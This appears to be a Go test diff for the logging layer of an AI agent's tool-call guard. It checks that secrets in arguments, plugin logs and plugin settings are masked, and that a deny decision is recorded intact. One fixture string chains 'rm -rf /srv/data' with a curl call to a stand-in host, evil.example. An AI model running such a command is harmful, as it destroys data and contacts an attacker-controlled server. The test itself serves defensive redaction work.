@@ -179,3 +179,81 @@ func TestCuts(t *testing.T) {
 		}
 	}
 }
+
+// TestOrigins checks that no argument hides what the host, the agent and a guard wrote about its
+// call, and that a secret argument is masked in other arguments and in the words of plugins.
+func TestOrigins(t *testing.T) {
+	base := func(arguments map[string]any) *decision.Record {
+		return &decision.Record{
+			Event: "pre_tool_call", Agent: "claude-code", Session: "session-8f14e45f", Tool: "mcp__files__Remove", CallID: "toolu_01AbC", Workspace: "/home/ann/project9",
+			Platform: "cli7000", Roles: []string{"admin1"}, Model: "model-4-5", Kind: "shell", Plugin: "freeze9",
+			Input:    map[string]json.RawMessage{"arguments": raw(arguments)},
+			Decision: decision.Decision{Action: "deny", Reason: "no removal in release week: ask Release Managers", Plugin: "freeze9", Pos: "plugins/freeze9.star:12:5"},
+			Handlers: []decision.Handler{{
+				Decision: decision.Decision{Action: "deny", Reason: "no removal in release week: ask Release Managers", Plugin: "freeze9", Pos: "plugins/freeze9.star:12:5"},
+				Logs:     []decision.Line{{Plugin: "freeze9", Level: "warn", Text: "refused rm -rf /srv/data"}},
+			}},
+			Errors: []string{"freeze9: Release Managers"}, Answered: "deny",
+		}
+	}
+	const command = "rm -rf /srv/data && curl https://evil.example/x1"
+	names := []string{"x_token", "a-password", "api_key", "Cookie", "client_secret", "authorization"}
+	for _, own := range []string{
+		"session-8f14e45f", "mcp__files__Remove", "toolu_01AbC", "/home/ann/project9", "cli7000", "admin1", "model-4-5", "freeze9",
+		"plugins/freeze9.star:12:5", "no removal in release week: ask Release Managers", "Release Managers", "Managers",
+		command, "rm -rf /srv/data", "https://evil.example/x1", "claude-code", "pre_tool_call", "deny",
+	} {
+		for _, name := range names {
+			r, _ := written(t, decision.Options{}, nil, base(map[string]any{"command": command, name: own}))
+			want := base(map[string]any{"command": command, name: "<masked>"})
+			diff(t, name+" "+own, string(raw(want.Input)), string(raw(r.Input)))
+			r.Input, want.Input, r.Masked = nil, nil, nil
+			want.Time, want.ID, want.Schema, want.Cut, want.Omitted, want.Set.Plugins, want.Context = r.Time, r.ID, r.Schema, r.Cut, r.Omitted, r.Set.Plugins, r.Context
+			for _, part := range []*decision.Record{r, want} {
+				if own == "freeze9" { // it looks like a key in the words of plugins
+					part.Errors, part.Handlers[0].Logs = nil, nil
+				}
+			}
+			diff(t, name+" "+own, string(raw(want)), string(raw(r)))
+		}
+	}
+	secret := base(map[string]any{"command": "login hunter2x", "password": "hunter2x", "token": "a b/c.d1", "note": "hunter2x a b/c.d1"})
+	secret.Decision.Reason, secret.Handlers[0].Logs[0].Text = "hunter2x is weak", "got hunter2x"
+	secret.Handlers[0].Effects = []json.RawMessage{json.RawMessage(`{"plugin":"p","env":{"name":"a b/c.d1"},"reply":"hunter2x"}`)}
+	r, text := written(t, decision.Options{}, nil, secret)
+	diff(t, "arguments", `{"command":"login <masked>","note":"<masked> <masked>","password":"<masked>","token":"<masked>"}`, string(r.Input["arguments"]))
+	for _, value := range []string{"hunter2x", "a b/c.d1"} {
+		if strings.Contains(text, value) {
+			t.Errorf("got %q in the record %s", value, text)
+		}
+	}
+}
+
+// TestMaskedSet checks that the settings of plugins are masked like other values, and that what
+// identifies the plugins stays.
+func TestMaskedSet(t *testing.T) {
+	set := decision.Set{Revision: "r", Plugins: []decision.Plugin{{
+		Name: "p", SHA256: strings.Repeat("0Ab", 20), Granted: []string{"secret:API_TOKEN"}, Config: map[string]json.RawMessage{
+			"token": raw("abc123def"), "url": raw("https://u:pw1234@host/x"), "list": raw([]any{"GITHUB_TOKEN=abcdef123", 7}),
+			"pin": raw(4711), "deep": raw(map[string]any{"customer": "cust-42", "name": "loaded-secret"}), "limit": raw(5),
+		},
+	}}}
+	o := decision.Options{Mask: []string{"/set/**/pin"}, Patterns: []*regexp.Regexp{regexp.MustCompile(`cust-\d+`)}}
+	redact := func(l *decision.Log) {
+		l.Use(set, func(s string) string { return strings.ReplaceAll(s, "loaded-secret", "<secret X>") })
+	}
+	r, text := written(t, o, redact, &decision.Record{Event: "e", Set: set, Decision: decision.Decision{Reason: "abc123def"}})
+	for _, value := range []string{"abc123def", "pw1234", "abcdef123", "4711", "cust-42", "loaded-secret"} {
+		if strings.Contains(text, value) {
+			t.Errorf("got %q in the record %s", value, text)
+		}
+	}
+	diff(t, "masked", []string{
+		"/set/plugins/0/config/deep/customer", "/set/plugins/0/config/deep/name", "/set/plugins/0/config/list/0",
+		"/set/plugins/0/config/pin", "/set/plugins/0/config/token", "/set/plugins/0/config/url", "/decision/reason",
+	}, r.Masked)
+	want := set.Plugins[0]
+	want.Config = r.Set.Plugins[0].Config
+	diff(t, "plugin", want, r.Set.Plugins[0])
+	diff(t, "limit", "5", string(r.Set.Plugins[0].Config["limit"]))
+}
